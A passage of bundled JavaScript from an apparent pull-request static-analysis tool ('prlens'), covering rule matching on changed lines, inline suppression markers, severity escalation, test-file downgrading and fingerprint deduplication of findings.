    return (after.length === 1 &&
        last !== undefined &&
        (DEFAULT_RETURN.test(last.text()) || returnsGivenDefault(last, language)));
}
// A constant by its spelling: an upper-case name, alone or on a type (`Level.NONE`, `DEFAULT_PORT`).
const CONSTANT_RETURN = /^return\s+([A-Z]\w*\.)*[A-Z][A-Z0-9_]+\s*;?$/;
/**
 * `return defaultValue;` of a parameter of the function around it (the caller's own default, as in
 * gitblit's manifest lookup `getManifestValue(attrib, defaultValue)`, fresh28), or of an upper-case
 * constant (`return Level.NONE;`): as fixed as a literal. A local variable or a field still reports.
 */
function returnsGivenDefault(statement, language) {
    if (CONSTANT_RETURN.test(statement.text()))
        return true;
    // Java only: a JavaScript helper returning its input after a failed request hides the request's failure.
    if (language !== 'java')
        return false;
    const name = /^return\s+([A-Za-z_$][\w$]*)\s*;?$/.exec(statement.text())?.[1];
    if (!name)
        return false;
    const fn = statement.ancestors().find((a) => a.field('parameters') !== null && a.field('body') !== null);
    const parameters = fn?.field('parameters');
    return (parameters !== null &&
        parameters !== undefined &&
        new RegExp(`(^|[^\\w$])${name.replace(/\$/g, '\\$')}([^\\w$]|$)`).test(parameters.text()));
}
/** The statements after `node` in its block: no comments, no closing brace. */
const statementsAfter = (node) => node.nextAll().filter((n) => !COMMENT.test(String(n.kind())) && !/^[}]$/.test(n.text()));
// pyinvoke and Fabric: `from invoke import task`, `import invoke`, `from fabric import task`.
const TASK_IMPORT = /^\s*(from\s+(invoke|fabric)\b[^\n]*\bimport\b|import\s+(invoke|fabric)\b)/m;
/** A function decorated `@task` (or `@invoke.task(...)`) in a file that imports invoke or fabric. */
function inMaintainerTask(node) {
    const file = node.getRoot().root().text();
    if (!TASK_IMPORT.test(file) || (0,entry_points/* servesRequests */.Hu)(file, 'python'))
        return false;
    return node
        .ancestors()
        .filter((a) => String(a.kind()) === 'decorated_definition')
        .some((d) => d
        .children()
        .some((c) => String(c.kind()) === 'decorator' && /^@((invoke|fabric)\.)?task\b/.test(c.text())));
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/manifest.js
var manifest = __webpack_require__(68501);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/scan-file.js









/**
 * Runs one check or rule on a file; a throw becomes an entry in `failed` (the caller reports the
 * file as partly checked) instead of ending the review or passing for "no finding".
 */
function guarded(rule, file, failed, run) {
    try {
        return run();
    }
    catch (error) {
        failed.push({ path: file.path, rule, reason: error instanceof Error ? error.message : String(error) });
        return undefined;
    }
}
/**
 * The matches of `rules` on the changed lines of a file. Given the file's tree (`parsed`), only the
 * part holding the changed lines is searched: same matches, without walking the rest of the file.
 */
function scanFile(file, language, rules, failed, parsed) {
    const root = parsed ??
        guarded(`the ${language} parser`, file, failed, () => (0,napi/* napi */.H)().parse((0,languages/* napiLang */.zG)(language), file.content).root());
    if (!root)
        return { findings: [], suppressed: [] };
    const region = parsed ? regionOf(parsed, file.changedLines) : null;
    const configs = rules.map((r) => r.config);
    const search = region
        ? regionSearch(region, configs, language)
        : (config) => root.findAll(config);
    const lines = file.content.split('\n');
    const seen = new Set();
    const findings = [];
    const suppressed = [];
    let inline;
    const tree = root;
    const matchRule = (rule) => {
        for (const node of search(rule.config)) {
            const line = firstChangedLine(node.range(), file.changedLines);
            if (line === undefined || seen.has(`${rule.id}:${line}`))
                continue;
            // Issue 45 point 4: one recogniser of a deliberate fallback for every error-discarding rule.
            if (rule.fallback === 'skip' && deliberateFallback(node, language))
                continue;
            const graded = escalated(rule, node, gradeMatch(rule, node, language, file.path, file.role === 'test', file.manifest?.runBy, file.goPackage, file.callers));
            if (!graded.keep)
                continue;
            const gate = rule.dependency && (0,manifest/* dependencyGate */.Py)(rule.dependency, file.manifest);
            if (gate && gate.drop)
                continue;
            if (rule.needsPackage && (0,manifest/* packageGate */._G)(rule.needsPackage, file.manifest).drop)
                continue;
            seen.add(`${rule.id}:${line}`);
            // Comments are collected once a file has a match: most files have none.
            inline ??= fileSuppressions(tree, language, lines);
            const marker = inlineMarker(inline, rule, node, line, language);
            if (marker !== null) {
                suppressed.push({ path: file.path, line, rule: rule.id, marker });
                continue;
            }
            const finding = (0,static_finding/* staticFinding */.c9)(rule, {
                path: file.path,
                line,
                anchor: (lines[line - 1] ?? '').replace(/\r$/, ''),
                severity: graded.severity,
                backed: graded.backed,
                detail: gate ? [graded.detail, gate.note].filter(Boolean).join(' ') : graded.detail,
                suggestion: suggestionFor(rule, node, file.content, line),
            });
            findings.push(file.role === 'test' && rule.inTests === 'low' ? gradedForTests(finding) : finding);
        }
    };
    // Each rule (its matching and the grading of its matches) fails alone: the others still report.
    // A rule whose required text is absent cannot match: the syntax search is skipped.
    for (const rule of rules)
        if (!rule.requires || rule.requires.test(file.content))
            guarded(rule.id, file, failed, () => matchRule(rule));
    findings.sort((a, b) => a.line - b.line || (0,compare_text/* compareText */.n)(a.ruleId, b.ruleId));
    return { findings, suppressed };
}
/** The inline marker (`# nosec`, `// eslint-disable-line`) that silences a rule's match on `line`, or null. */
function inlineMarker(inline, rule, node, line, language) {
    // Only a same-line marker can sit after a string's closing quotes, or on the string a variable
    // passed to the sink was built from (bandit and ruff report there): most files have none.
    const sameLine = inline.sameLine.size > 0;
    const stringEnds = sameLine ? multilineStringEnds(node, language) : [];
    const builtAt = sameLine && rule.flow ? assignmentLines(node.getMatch(rule.flow), language) : [];
    return suppressionFor(inline, rule, { startLine: node.range().start.line + 1, line, stringEnds, builtAt }, node);
}
/**
 * The severity of the rule's first `escalate` entry whose `when` the match's YAML document (else the
 * file) matches, or with `scope: mapping` the innermost mapping that holds the match.
 */
function escalated(rule, node, graded) {
    if (!graded.keep || rule.escalate.length === 0)
        return graded;
    const root = node.getRoot().root();
    const document = node.ancestors().find((a) => String(a.kind()) === 'document') ?? root;
    const mapping = node.ancestors().find((a) => /^(block|flow)_mapping$/.test(String(a.kind())));
    const entry = rule.escalate.find((e) => {
        const scope = e.scope === 'mapping' ? mapping : document;
        return scope !== undefined && e.when.test(scope.text());
    });
    if (!entry)
        return graded;
    const why = `Severity ${entry.severity}: ${entry.why}.`;
    return {
        keep: true,
        severity: entry.severity,
        detail: graded.detail ? `${graded.detail} ${why}` : why,
    };
}
/** A rule with `in-tests: low` in a test file: reported, but graded low and saying why. */
function gradedForTests(finding) {
    if (finding.severity === 'low')
        return finding;
    const note = `Graded low (the rule says ${finding.severity}): \`${finding.path}\` is a test file.`;
    return { ...withNote(finding, note), severity: 'low' };
}
/** The finding with `note` added to its body, before the line naming the rule. */
function withNote(finding, note) {
    const body = finding.body.replace(/(\n\n_prlens static rule `[a-z0-9-]+`_)$/, `\n\n${note}$1`);
    return { ...finding, body: body === finding.body ? `${body}\n\n${note}` : body };
}
/** The first changed (1-based) line inside a match, so the comment lands on a line GitHub accepts. */
function firstChangedLine(range, changed) {
    for (let line = range.start.line + 1; line <= range.end.line + 1; line++) {
        if (changed.has(line))
            return line;
    }
    return undefined;
}


/***/ }),

/***/ 81222:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Kp: () => (/* binding */ distinctRuleFingerprints),
/* harmony export */   c9: () => (/* binding */ staticFinding),
/* harmony export */   dW: () => (/* binding */ staticRuleIdOf)
/* harmony export */ });
/* harmony import */ var _core_compare_text_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(44418);
/* harmony import */ var _core_fingerprint_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1905);


const RULE_LINE = /^_prlens static rule `([a-z0-9-]+)`_$/m;
/** The rule id recorded in a static finding's body, or null for findings of other lenses. */
function staticRuleIdOf(body) {
    return RULE_LINE.exec(body)?.[1] ?? null;
}
/** The finding of one match. */
function staticFinding(rule, match) {
    const body = [rule.message, rule.note, match.detail, `_prlens static rule \`${rule.id}\`_`]
        .filter(Boolean)
        .join('\n\n');
    return {
        path: match.path,
        line: match.line,
        start_line: null,
        side: 'RIGHT',
        severity: match.severity ?? rule.severity,
        category: rule.category,
        lens: 'static',
        title: rule.message,
        body,
        suggestion: match.suggestion ?? null,
        // Only a rule's own fix may later be `verified`, and only by this rule (check-suggestions.ts).
        ...(match.suggestion != null ? { suggestion_rule: rule.id } : {}),
        anchor: match.anchor,
        confidence: rule.confidence,
        anchored: true,
        fingerprint: (0,_core_fingerprint_js__WEBPACK_IMPORTED_MODULE_1__/* .fingerprint */ .R)({ path: match.path, category: rule.category, anchor: match.anchor }),
        rule: rule.id,
        ruleId: rule.id,
        ...(match.backed === true ? { backed: true } : {}),
    };
}
/**
 * The findings with one fingerprint each. A fingerprint names the path, the category and the line's
 * text, not the rule (a model finding has none) nor the line number (it survives edits above), so
 * two rules of one category on one line share it, and so do two identical lines of a file (two
 * `eval(x)`): the run would keep only one of them. The first holder, by rule id and then by line,
 * keeps the plain fingerprint, the one earlier runs posted and users may have ignored; another rule
 * adds its id, another occurrence of the same rule its ordinal (`#2`).
 */
function distinctRuleFingerprints(findings) {
    const holders = new Map();
    for (const f of findings)
        holders.set(f.fingerprint, [...(holders.get(f.fingerprint) ?? []), f]);
    const renamed = new Map();
    for (const group of holders.values()) {
        if (group.length < 2)
            continue;
        const ordered = [...group].sort((a, b) => (0,_core_compare_text_js__WEBPACK_IMPORTED_MODULE_0__/* .compareText */ .n)(a.ruleId, b.ruleId) || a.line - b.line);
        const first = ordered[0].ruleId;
        const seen = new Map();
        for (const f of ordered) {
            const n = (seen.get(f.ruleId) ?? 0) + 1;
            seen.set(f.ruleId, n);
            const rulePart = f.ruleId === first ? '' : `/${f.ruleId}`;
            const occurrence = n === 1 ? '' : `#${n}`;
            if (rulePart === '' && occurrence === '')
                continue;
            const category = `${f.category}${rulePart}${occurrence}`;
            renamed.set(f, (0,_core_fingerprint_js__WEBPACK_IMPORTED_MODULE_1__/* .fingerprint */ .R)({ path: f.path, category, anchor: f.anchor }));
        }
    }
    return findings.map((f) => {
        const print = renamed.get(f);
        return print === undefined ? f : { ...f, fingerprint: print };
    });
}


/***/ })

};
